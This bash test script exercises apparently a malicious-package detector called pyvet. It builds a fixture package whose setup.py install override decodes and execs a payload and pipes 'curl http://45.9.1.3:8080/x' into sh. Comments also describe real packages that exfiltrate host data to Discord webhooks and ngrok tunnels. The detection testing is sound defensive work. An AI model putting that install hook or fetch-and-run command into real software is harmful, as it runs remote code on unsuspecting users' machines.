#!/usr/bin/env bash
# The feature sets beyond the paper (issue 11) end to end: extraction of a package built here
# (columns, evidence.jsonl, `pyvet scan` text), the yara rules parameter (a user directory,
# broken and missing ones; GuardDog's rules when ../shared/peers has them), and real corpus
# packages whose behaviour is known from reading their code as text.
. tests/lib.sh

SETS=behavior,obfuscation,metadata2,yara
DOM="--domains tests/data/top-domains-mini.csv"

# ---- a package built here: a setup.py that decodes and runs a payload on install ----
P=$TMP/corpus/evil-0.0.1
mkdir -p "$P/evil"
cat >"$P/setup.py" <<'EOF'
import base64, os
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        code = base64.b64decode('cHJpbnQoMSk=')
        exec(code)
        os.system('curl -s http://45.9.1.3:8080/x | sh')
        install.run(self)

setup(name='evil', version='0.0.1', cmdclass={'install': Post})
EOF
printf 'Metadata-Version: 2.1\nName: evil\nVersion: 0.0.1\n' >"$P/PKG-INFO"
printf 'import subprocess\nsubprocess.Popen(["id"])\n' >"$P/evil/__init__.py"
# a fullwidth identifier (NFKC turns it into "value")
printf '\357\275\226\357\275\201\357\275\214\357\275\225\357\275\205 = 1\n' >"$P/evil/_n.py"
printf 'id,label,name,version,path\nevil1,malicious,evil,0.0.1,evil-0.0.1\n' >"$TMP/m.csv"
"$PYVET" extract $DOM --featuresets "$SETS" --manifest "$TMP/m.csv" --corpus "$TMP/corpus" \
	--out "$TMP/x" >"$TMP/out.txt" 2>"$TMP/err.txt"
check "extract with the four sets" [ $? -eq 0 ]
col() { # value of column $1 of the first row
	awk -F, -v c="$1" 'NR == 1 { for (i = 1; i <= NF; i++) if ($i == c) k = i }
		NR == 2 && k { print $k }' "$TMP/x/features.csv"
}
check "behavior.decode_exec = 1" [ "$(col behavior.decode_exec)" = 1 ]
check "behavior.cmdclass_sinks = 3 (decode, exec, process)" [ "$(col behavior.cmdclass_sinks)" = 3 ]
check "behavior.init_module_sinks = 1" [ "$(col behavior.init_module_sinks)" = 1 ]
check "behavior.exfil_endpoints = 1 (a public ip:port)" [ "$(col behavior.exfil_endpoints)" = 1 ]
check "metadata2.version_0_0_x = 1" [ "$(col metadata2.version_0_0_x)" = 1 ]
check "obfuscation.nfkc_changed_identifiers = 1" [ "$(col obfuscation.nfkc_changed_identifiers)" = 1 ]
check "yara.download_and_execute = 1" [ "$(col yara.download_and_execute)" = 1 ]
n_rules=$(cat featuresets/data/rules/*.yar | grep -c '^rule ')
n_yara=$(head -1 "$TMP/x/features.csv" | tr , '\n' | grep -c '^yara\.')
check "one yara column per shipped rule ($n_yara of $n_rules)" [ "$n_yara" -eq "$n_rules" ]
check "evidence.jsonl: the decode->exec statement, setup.py line 8" \
	python3 -c 'import json,sys
o = json.loads(open(sys.argv[1]).readline())
sys.exit(0 if any(e["rule"] == "behavior.decode_exec" and e["file"] == "setup.py" and e["line"] == 8
                  for e in o["behavior"]) else 1)' "$TMP/x/evidence.jsonl"
check "evidence.jsonl: the yara match, setup.py line 9" \
	python3 -c 'import json,sys
o = json.loads(open(sys.argv[1]).readline())
sys.exit(0 if any(e["rule"] == "yara.download_and_execute" and e["line"] == 9
                  for e in o["yara"]) else 1)' "$TMP/x/evidence.jsonl"
# --no-model: the bundled model needs the popular-domain list it was trained with (t4020)
check "evidence.jsonl: the fullwidth identifier, evil/_n.py" \
	python3 -c 'import json,sys
o = json.loads(open(sys.argv[1]).readline())
sys.exit(0 if any(e["rule"] == "obfuscation.nfkc_changed_identifiers" and e["file"] == "evil/_n.py"
                  for e in o["obfuscation"]) else 1)' "$TMP/x/evidence.jsonl"
"$PYVET" scan --no-model $DOM --param scan.text_evidence_max=200 "$P" >"$TMP/scan.txt" 2>&1
check "scan shows the behaviour evidence as a warning (its column is non-zero)" \
	grep -q 'warning setup.py:8  behavior.decode_exec' "$TMP/scan.txt"
check "scan shows the yara evidence as a warning" \
	grep -q 'warning setup.py:9  yara.download_and_execute' "$TMP/scan.txt"
check "scan shows the obfuscation evidence" \
	grep -q 'warning evil/_n.py  obfuscation.nfkc_changed_identifiers' "$TMP/scan.txt"
check "scan shows the metadata2 evidence" grep -q 'warning PKG-INFO  metadata2.version_0_0_x' "$TMP/scan.txt"

# ---- yara.rules ----
mkdir -p "$TMP/rules"
printf 'rule only_mine { strings: $a = "subprocess.Popen" condition: $a }\n' >"$TMP/rules/r.yar"
"$PYVET" extract $DOM --featuresets yara --param "yara.rules=$TMP/rules" --manifest "$TMP/m.csv" \
	--corpus "$TMP/corpus" --out "$TMP/y" >/dev/null 2>"$TMP/err.txt"
check "a user rules directory: one column, matched" \
	[ "$(head -1 "$TMP/y/features.csv" | tr , '\n' | grep '^yara\.')" = yara.only_mine ]
check "its hash is in the sidecar" grep -q '"rules"' "$TMP/y/features.json"
printf 'rule broken { condition: $nope }\n' >"$TMP/rules/r.yar"
"$PYVET" extract $DOM --featuresets yara --param "yara.rules=$TMP/rules" --manifest "$TMP/m.csv" \
	--corpus "$TMP/corpus" --out "$TMP/z" >/dev/null 2>"$TMP/err.txt"
rc=$?
check "a broken rule file: exit 2" [ "$rc" -eq 2 ]
check "... naming the file and line" grep -q "r.yar:1" "$TMP/err.txt"
check "... and nothing written" [ ! -e "$TMP/z/features.csv" ]
"$PYVET" extract $DOM --featuresets yara --param "yara.rules=$TMP/nonexistent" \
	--manifest "$TMP/m.csv" --corpus "$TMP/corpus" --out "$TMP/z" >/dev/null 2>"$TMP/err.txt"
rc=$?
check "a missing rules directory: exit 2, 'not found'" \
	[ "$rc" -eq 2 ] && grep -q "not found" "$TMP/err.txt"

GD=$(ls "$SHARED"/peers/src/guarddog-*.tar.gz 2>/dev/null | head -1)
if [ -n "$GD" ]; then
	mkdir -p "$TMP/gd" "$TMP/gdrules"
	# the rule files (*.yar) and the files they include (*.meta)
	tar -xzf "$GD" -C "$TMP/gd" --wildcards '*/analyzer/sourcecode/*' 2>/dev/null
	find "$TMP/gd" -path '*/sourcecode/*' \( -name '*.yar' -o -name '*.meta' \) \
		-exec cp {} "$TMP/gdrules/" \;
	n_gd=$(cat "$TMP"/gdrules/*.yar | grep -cE '^\s*rule ')
	"$PYVET" extract $DOM --featuresets yara --param "yara.rules=$TMP/gdrules" \
		--manifest "$TMP/m.csv" --corpus "$TMP/corpus" --out "$TMP/g" >/dev/null 2>"$TMP/err.txt"
	check "GuardDog's rules plug in ($n_gd rules)" [ -s "$TMP/g/features.csv" ]
	n_g=$(head -1 "$TMP/g/features.csv" | tr , '\n' | grep -c '^yara\.')
	check "a column per public GuardDog rule ($n_g for $n_gd rules in *.yar plus included ones)" \
		[ "$n_g" -ge "$n_gd" ]
	check "GuardDog's base64-exec rule matches the package" \
		[ "$(awk -F, 'NR == 1 { for (i = 1; i <= NF; i++) if ($i == "yara.threat_runtime_obfuscation_base64exec") k = i }
			NR == 2 && k { print $k }' "$TMP/g/features.csv")" = 1 ]
else
	skip "GuardDog's sources (<shared>/peers/src/guarddog-*.tar.gz) absent: plug-in rules not tested"
fi

# ---- real packages: behaviour known from reading their code as text ----
if [ -z "$CORPUS" ]; then
	skip "corpus not found (set PYVET_CORPUS): real-package sanity not tested"
	finish
	exit $?
fi
# mianlmao 0.94: setup.py's install override sends host name and IP to a Discord webhook.
# pytnon 1.0.0: setup.py's install override exec()s Fernet-decrypted code.
# isred 4.1.4: isred/__init__.py calls a Discord webhook, an oastify.com host and an ngrok
#   TCP tunnel at import time.
# APScheduler 3.9.1 (benign): none of this.
{ head -1 "$CORPUS/manifest.csv"
  grep -E '^(792a2bd737b0|0cc1f7acfd5c|35a796eb057f)' "$CORPUS/manifest.csv"
  grep ',benign,APScheduler,3.9.1,' "$CORPUS/manifest.csv"; } >"$TMP/real.csv"
check "four real packages listed" [ "$(($(wc -l <"$TMP/real.csv") - 1))" -eq 4 ]
D=$DOM
[ -n "$SHARED_DOMAINS" ] && D="--domains $SHARED_DOMAINS"
"$PYVET" extract $D --featuresets "$SETS" --manifest "$TMP/real.csv" --corpus "$CORPUS" \
	--out "$TMP/r" >/dev/null 2>"$TMP/err.txt"
check "the real packages extract" [ $? -eq 0 ]
val() { # value of column $2 for the row whose name is $1
	awk -F, -v n="$1" -v c="$2" 'NR == 1 { for (i = 1; i <= NF; i++) { if ($i == c) k = i; if ($i == "name") m = i } }
		NR > 1 && $m == n { print $k }' "$TMP/r/features.csv"
}
check "mianlmao: an install override" [ "$(val mianlmao behavior.cmdclass_overrides)" = 1 ]
check "mianlmao: a network call in it" [ "$(val mianlmao behavior.cmdclass_sinks)" -ge 1 ]
check "mianlmao: a webhook endpoint" [ "$(val mianlmao behavior.exfil_endpoints)" -ge 1 ]
check "mianlmao: yara discord_webhook" [ "$(val mianlmao yara.discord_webhook)" = 1 ]
check "pytnon: decode -> exec" [ "$(val pytnon behavior.decode_exec)" = 1 ]
check "pytnon: an install override running it" [ "$(val pytnon behavior.cmdclass_sinks)" -ge 2 ]
check "isred: network at import time" [ "$(val isred behavior.init_module_sinks)" -ge 2 ]
check "isred: webhook, oast and tunnel endpoints" [ "$(val isred behavior.exfil_endpoints)" -ge 1 ]
check "isred: yara exfil_tunnel_paste_oast" [ "$(val isred yara.exfil_tunnel_paste_oast)" = 1 ]
for c in behavior.decode_exec behavior.cmdclass_sinks behavior.init_module_sinks \
	yara.discord_webhook yara.py_exec_base64 obfuscation.marshal_zlib_blobs; do
	check "APScheduler: $c = 0" [ "$(val APScheduler "$c")" = 0 ]
done
finish
